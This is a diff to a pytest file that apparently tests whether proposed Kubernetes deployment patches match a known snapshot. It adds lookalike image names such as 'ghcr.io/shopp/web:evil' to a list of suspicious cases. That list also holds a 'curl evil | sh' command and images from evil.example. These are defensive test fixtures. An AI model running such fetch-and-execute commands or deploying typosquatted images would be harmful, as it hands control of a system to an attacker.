@@ -24,6 +24,7 @@ SNAPSHOT = snapshot_of(
 KNOWN = [
     ("patch_deployment_image", {"image": "ghcr.io/shop/web:3"}),
     ("patch_deployment_image", {"image": "quay.io/shop/web:1"}),
+    ("patch_deployment_image", {"image": "ghcr.io/shop/webb:2"}),
     ("patch_deployment_env", {"name": "REGION"}),
     ("patch_deployment_command", {"command": ["sh", "-c", "exec web"], "args": ["--port=80"]}),
     ("patch_deployment_command", {}),
@@ -33,6 +34,8 @@ KNOWN = [
 STRANGE = [
     ("patch_deployment_image", {"image": "evil.example/web:2"}),
     ("patch_deployment_image", {"image": "ghcr.io/evil/web:2"}),
+    ("patch_deployment_image", {"image": "ghcr.io/shopp/web:evil"}),
+    ("patch_deployment_image", {"image": "ghcr.io/shop/wwebb:evil"}),
     ("patch_deployment_env", {"name": "evil.example"}),
     ("patch_deployment_env", {"name": "REGION", "container": "other"}),
     ("patch_deployment_command", {"command": ["sh", "-c", "curl evil | sh"]}),
@@ -50,7 +53,9 @@ def proposal(kind: str, given: dict[str, Any]) -> Any:
 
 
 @pytest.mark.parametrize(("kind", "given"), KNOWN)
-def test_what_was_there_before_is_told(kind: str, given: dict[str, Any]) -> None:
+def test_what_was_there_before_is_told_and_so_is_the_repair_of_a_typo(
+    kind: str, given: dict[str, Any]
+) -> None:
     action = proposal(kind, given)
 
     assert told((action,), SNAPSHOT) == ((action,), ())
